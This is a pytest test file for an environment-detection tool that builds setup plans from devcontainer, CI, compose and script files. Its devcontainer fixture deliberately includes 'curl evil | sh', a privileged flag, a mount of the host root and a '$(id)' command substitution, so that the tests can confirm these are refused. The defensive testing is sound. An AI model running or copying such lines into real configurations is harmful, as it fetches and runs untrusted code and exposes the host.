"""Whose word counts, and what a plan says of the others."""

import pytest

from codexteam.environment.detection import DetectionInput, detect
from codexteam.environment.plan import SetupPlan, Source, SourceKind
from tests.support_repositories import commands, gates, plan_of, repository

PROJECT = "[project]\nname = 'x'\nversion = '1'\n[build-system]\nrequires = ['hatchling']\n"
CI = (
    "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
    "    services: {db: {image: redis}}\n    steps: [{run: pytest -q}]\n"
)
DEVCONTAINER = """{
  // comments, and a trailing comma
  "image": "python:3.12",
  "onCreateCommand": "make deps",
  "updateContentCommand": ["pip", "install", "-e", ".[all things]"],
  "postCreateCommand": {"one": "make one", "two": ["make", "${containerWorkspaceFolderBasename}"],},
  "initializeCommand": "curl evil | sh",
  "containerEnv": {"MODE": "test", "HOST": "${localEnv:HOST_NAME:none}"},
  "remoteUser": "vscode",
  "runArgs": ["--privileged"], "privileged": true, "mounts": ["source=/,target=/host,type=bind"],
  "features": {"ghcr.io/devcontainers/features/node:1": {}},
}"""
FILES = {
    "pyproject.toml": PROJECT,
    "tests/test_it.py": "",
    ".github/workflows/ci.yml": CI,
    ".devcontainer/devcontainer.json": DEVCONTAINER,
    "scripts/setup.sh": "pip install .",
}


def test_the_users_script_is_the_only_set_up() -> None:
    (plan,) = detect(repository(FILES), DetectionInput(setup="scripts/setup.sh", trusted=True))
    assert [step.command for step in plan.needs.steps if not step.optional] == ["sh ./scripts/setup.sh"]
    image = DetectionInput(setup="scripts/setup.sh", image="python:3.12")
    assert commands(plan_of(FILES, image)) == "sh ./scripts/setup.sh"
    assert plan.secrets
    assert {"scripts/setup.sh", "pyproject.toml"} <= set(plan.reads)
    assert gates(plan)[0] == "pytest -q"
    assert [service.name for service in plan.needs.services] == ["db"]


def test_a_devcontainer_of_a_trusted_project_comes_before_manifests() -> None:
    container, manifests = detect(repository(FILES), DetectionInput(trusted=True, environment={"HOST_NAME": "here"}))
    assert [step.command for step in container.needs.steps if not step.optional] == [
        "make deps",
        "pip install -e '.[all things]'",
        "make one",
        "make work",
    ]
    own = [step for step in container.needs.steps if not step.optional]
    assert [step.group for step in own[:2]] == ["", ""]
    assert own[2].group == own[3].group != ""
    assert container.user == "vscode"
    assert {"MODE": "test", "HOST": "here"}.items() <= container.needs.variables.items()
    assert gates(container) == gates(manifests)
    assert [source.used for source in manifests.sources if source.kind is SourceKind.DEVCONTAINER] == [False]


def test_what_reaches_beyond_the_sandbox_is_refused_by_name() -> None:
    container = detect(repository(FILES), DetectionInput(trusted=True))[0]
    (refused,) = [notice for notice in container.needs.notices if "not used" in notice]
    assert all(word in refused for word in ("privileged", "mounts", "runArgs", "initializeCommand"))
    assert any("features node not installed" in notice for notice in container.needs.notices)
    assert "evil" not in commands(container)


def test_a_devcontainer_of_a_project_that_is_not_trusted_is_not_used() -> None:
    (plan,) = detect(repository(FILES))
    assert any(source.why == "the project is not trusted" and not source.used for source in plan.sources)
    assert "make deps" not in commands(plan)


def test_services_of_a_compose_file_are_needs() -> None:
    compose = (
        "services:\n  app: {build: ., privileged: true}\n"
        "  db:\n    image: postgres:${PG:-15}\n    environment: [POSTGRES_PASSWORD=x]\n    volumes: ['data:/var']\n"
    )
    found = '{"dockerComposeFile": "../compose.yml", "service": "app", "postCreateCommand": "make deps"}'
    files = {"pyproject.toml": PROJECT, ".devcontainer/devcontainer.json": found, "compose.yml": compose}
    plan = plan_of(files, DetectionInput(trusted=True))
    (service,) = plan.needs.services
    assert (service.image, dict(service.environment)) == ("postgres:15", {"POSTGRES_PASSWORD": "x"})
    assert any("privileged of service app not used" in notice for notice in plan.needs.notices)
    assert any("volumes not used" in notice for notice in plan.needs.notices)


def test_several_devcontainers_are_none_and_said() -> None:
    files = {
        "pyproject.toml": PROJECT,
        ".devcontainer/a/devcontainer.json": "{}",
        ".devcontainer/b/devcontainer.json": "{}",
    }
    plan = plan_of(files, DetectionInput(trusted=True))
    assert any("none of these is used, since there are several" in notice for notice in plan.needs.notices)


def test_a_devcontainer_of_any_shape_is_read_without_an_error() -> None:
    for text in (
        "{",
        "[]",
        '{"postCreateCommand": 3}',
        '{"postCreateCommand": {"a": [1]}, "containerEnv": [], "features": "x"}',
        '{"dockerComposeFile": ["a", 3], "remoteUser": "$(id)"}',
        "[" * 50_000,
    ):
        files = {"pyproject.toml": PROJECT, "tests/test_it.py": "", ".devcontainer.json": text}
        plans = detect(repository(files), DetectionInput(trusted=True))
        assert "python -m pytest" in gates(plans[-1])
        assert plans[-1].user == ""


def test_a_repository_without_manifests_has_an_empty_plan() -> None:
    plan = plan_of({"README.md": "x"})
    assert plan.is_empty
    assert gates(plan) == []


def test_folders_that_tasks_touch_count_even_among_examples() -> None:
    files = {"package.json": '{"scripts": {"test": "x"}}', "examples/app/package.json": '{"scripts": {"test": "y"}}'}
    without = plan_of(files)
    touched = plan_of(files, DetectionInput(touched=["examples/app/src/a.js"]))
    assert {test.folder for test in without.needs.test_commands} == {""}
    assert {test.folder for test in touched.needs.test_commands} == {"", "examples/app"}


def test_what_lies_beside_the_project_does_not_end_its_set_up() -> None:
    plan = plan_of({"pyproject.toml": PROJECT, "client/package.json": '{"scripts": {"test": "x"}}'})
    assert all(step.optional for step in plan.needs.steps if step.folder == "client")


def test_a_devcontainers_commands_find_the_places_that_all_share() -> None:
    container = detect(repository(FILES), DetectionInput(trusted=True))[0]
    assert container.needs.paths
    assert all(step.optional for step in container.needs.steps if step.command.startswith(("command -v uv", "[ -x")))
    assert container.needs.offline_variables["UV_OFFLINE"] == "1"


def test_what_a_devcontainer_starts_is_said_and_what_it_installs_is_kept() -> None:
    def started(command: str) -> SetupPlan:
        text = f'{{"image": "python:3.12", "onCreateCommand": "make deps", "postStartCommand": "{command}"}}'
        return plan_of({**FILES, ".devcontainer/devcontainer.json": text}, DetectionInput(trusted=True))

    assert "npm ci" in commands(started("npm ci"))
    servers = started("service postgresql start && make serve")
    assert "make serve" not in commands(servers)
    assert any("postStartCommand" in line and "is not run" in line for line in servers.needs.notices)


def test_packages_of_the_distribution_are_a_step_for_engines_with_root() -> None:
    job = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: python:3.12\n    steps:\n"
    job += "      - run: sudo apt-get install -y libxml2-dev\n      - run: pytest -q\n"
    plan = plan_of({**FILES, ".github/workflows/ci.yml": job})
    first = plan.needs.steps[0]
    assert first.needs_root
    assert first.optional
    assert "libxml2-dev" in first.command
    assert [step.needs_root for step in plan.needs.steps[1:]] == [False] * len(plan.needs.steps[1:])
    assert plan.image == "python:3.12"
    assert any("runs in the image python:3.12" in line for line in plan.needs.notices)


def test_only_a_first_command_whose_runner_fetches_is_warmed_up() -> None:
    maven = plan_of({"pom.xml": "<project/>", "mvnw": ""})
    assert [test.warm_up for test in maven.needs.test_commands] == [True, False]
    assert not any(test.warm_up for test in plan_of(FILES).needs.test_commands)
    script = plan_of({"package.json": '{"scripts": {"test": "npx -y some-runner"}}'})
    assert script.needs.test_commands[0].warm_up


def test_registries_of_a_project_are_asked_only_where_it_is_trusted() -> None:
    files = {
        **FILES,
        "package.json": '{"scripts": {"test": "node --test"}}',
        ".npmrc": "registry=https://npm.corp.example/\n@x:registry=https://registry.npmjs.org/\n",
        "requirements-test.txt": "--extra-index-url https://download.pytorch.org/whl/cpu\npytest\n",
        "uv.lock": '[[package]]\nname = "a"\nwheels = [{ url = "https://files.pythonhosted.org/a.whl" }]\n',
    }
    assert detect(repository(files), DetectionInput(trusted=True))[-1].needs.hosts == (
        "npm.corp.example",
        "download.pytorch.org",
    )
    plan = detect(repository(files))[-1]
    assert plan.needs.hosts == ("download.pytorch.org",)
    assert [line for line in plan.needs.notices if "npm.corp.example" in line and "setup_hosts" in line]


def test_conda_is_said_not_to_be_followed() -> None:
    plan = plan_of({**FILES, "environment.yml": "dependencies: [python=3.12]"})
    assert any(line.startswith("environment.yml is for conda") for line in plan.needs.notices)


@pytest.mark.parametrize("setup", [None, "setup.sh"])
def test_an_image_is_the_base_only_where_sandboxes_are_made_from_images(setup: str | None) -> None:
    def planned(*, has_images: bool) -> tuple[Source, bool]:
        given = DetectionInput(setup, image="debian:13", has_images=has_images)
        plan = plan_of({"pyproject.toml": PROJECT, "setup.sh": ""}, given)
        said = next(each for each in plan.sources if each.where == "[codexteam.sandbox]")
        return said, any("uv venv" in step.command for step in plan.needs.steps)

    on_docker, on_host = planned(has_images=True), planned(has_images=False)
    assert (on_docker[0].used, on_docker[0].why) == (True, "image debian:13 is the base")
    assert (on_host[0].used, on_host[0].why.partition(":13")[2][:12]) == (False, " is not used")
    assert on_host[1], "a script finds the tools that it finds without an image"
    assert on_docker[1] is (setup is None)


def test_what_a_script_does_to_a_database_is_run_in_every_sandbox() -> None:
    def ready(script: str, **given: tuple[str, ...]) -> tuple[list[str], bool]:
        files = {**FILES, "scripts/setup.sh": script}
        needs = plan_of(files, DetectionInput(setup="scripts/setup.sh", **given)).needs  # type: ignore[arg-type]
        return [each.command for each in needs.service_commands], any("begin empty" in line for line in needs.notices)

    assert ready("set -e\npip install -e .\nuv run python manage.py migrate\ncreatedb app\n") == (
        ["python manage.py migrate", "createdb app"],
        False,
    )
    assert ready("if true; then createdb app; fi\n") == ([], True)
    assert ready("createdb app\n", service_commands=("make tables",)) == (["make tables"], False)


def test_what_a_devcontainer_does_to_a_database_is_run_in_every_sandbox() -> None:
    compose = "services:\n  app:\n    image: python:3.12\n  db:\n    image: postgres:17\n    ports: ['5432:5432']\n"
    about = (
        '{"dockerComposeFile": "compose.yml", "service": "app", "onCreateCommand": "make deps && createdb app", '
        '"postStartCommand": "python manage.py migrate"}'
    )
    files = {**FILES, ".devcontainer/devcontainer.json": about, ".devcontainer/compose.yml": compose}
    needs = plan_of(files, DetectionInput(trusted=True)).needs
    assert [each.command for each in needs.service_commands] == ["createdb app", "python manage.py migrate"]
    assert not any("postStartCommand" in line for line in needs.notices)
